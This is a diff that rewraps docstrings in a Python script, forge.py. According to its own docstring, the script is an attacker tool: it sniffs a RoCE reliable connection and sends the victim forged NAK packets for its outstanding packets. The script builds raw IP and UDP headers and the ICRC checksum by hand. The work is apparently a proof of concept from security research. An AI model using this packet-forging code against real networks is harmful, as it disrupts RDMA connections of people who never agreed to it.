@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: BSD-2-Clause
-"""Attacker on the peer's host: sniffs an RC connection on an interface and sends the victim NAKs for its
-outstanding packets, from another UDP port.
+"""Attacker on the peer's host: sniffs an RC connection on an interface and sends the victim NAKs
+for its outstanding packets, from another UDP port.
 usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent
 SECONDS: counted from the first NAK; waits up to a minute for a connection."""
 
@@ -17,7 +17,8 @@ NAK_REMOTE_ACCESS = 0x62
 
 
 def packet(victim, peer, port, headers):
-    """Returns a UDP payload: `headers` and the ICRC over the IP and UDP headers that the kernel will write."""
+    """Returns a UDP payload: `headers` and the ICRC over the IP and UDP headers that the kernel
+    will write."""
     length = 8 + len(headers) + 4
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(peer), socket.inet_aton(victim))
     udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
@@ -26,7 +27,8 @@ def packet(victim, peer, port, headers):
 
 
 def bound(peer, port):
-    """Returns a socket with which the kernel writes the IP and UDP headers that packet() assumes."""
+    """Returns a socket with which the kernel writes the IP and UDP headers that packet()
+    assumes."""
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
     sender.bind((peer, port))
